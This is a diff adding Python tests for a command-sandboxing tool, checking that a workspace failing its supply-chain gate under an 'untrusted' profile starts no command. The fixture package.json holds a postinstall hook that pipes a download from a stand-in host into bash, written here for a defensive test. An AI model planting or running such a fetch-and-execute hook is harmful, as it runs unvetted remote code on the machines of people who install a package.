@@ -53,3 +53,39 @@ def test_signals_to_ztsa_reach_the_tree(tmp_path, sig):
     out, _ = p.communicate(timeout=30)
     assert out.strip() == f"got {int(sig)}"
     assert p.returncode == 7
+
+
+def failing_workspace(tmp_path):
+    """A workspace whose gate fails for any caller: an install script that pipes a
+    download into a shell (SUP003, SUP005 block under untrusted)."""
+    ws = tmp_path / "ws"
+    ws.mkdir()
+    (ws / "package.json").write_text(
+        '{"name": "x", "scripts": {"postinstall": "curl https://x.example/i.sh | bash"}}')
+    return ws
+
+
+def test_a_failed_gate_starts_nothing_for_any_caller(tmp_path):
+    ws = failing_workspace(tmp_path)
+    tag = f"ztsa-gate-{os.getpid()}"
+    marker = tmp_path / "ran"
+    p = ztsa("exec", "--profile", "untrusted", "--workspace", str(ws), "--", "sh", "-c",
+             f"touch {marker}; sleep 30 # {tag}", cwd=ws)
+    _, err = p.communicate(timeout=60)
+    assert p.returncode == 3, err
+    assert "CMD was not started" in err
+    assert not marker.exists()
+    left = subprocess.run(["pgrep", "-f", tag], capture_output=True, text=True).stdout
+    assert left == ""
+
+
+def test_a_failed_gate_comes_before_a_missing_command(tmp_path):
+    ws = failing_workspace(tmp_path)
+    p = ztsa("exec", "--profile", "untrusted", "--workspace", str(ws), "--",
+             "no-such-program-anywhere", cwd=ws)
+    _, err = p.communicate(timeout=60)
+    assert p.returncode == 3 and "command not found" not in err
+    p = ztsa("exec", "--profile", "repo", "--workspace", str(ws), "--",
+             "no-such-program-anywhere", cwd=ws)
+    _, err = p.communicate(timeout=60)
+    assert p.returncode == 127 and "command not found" in err
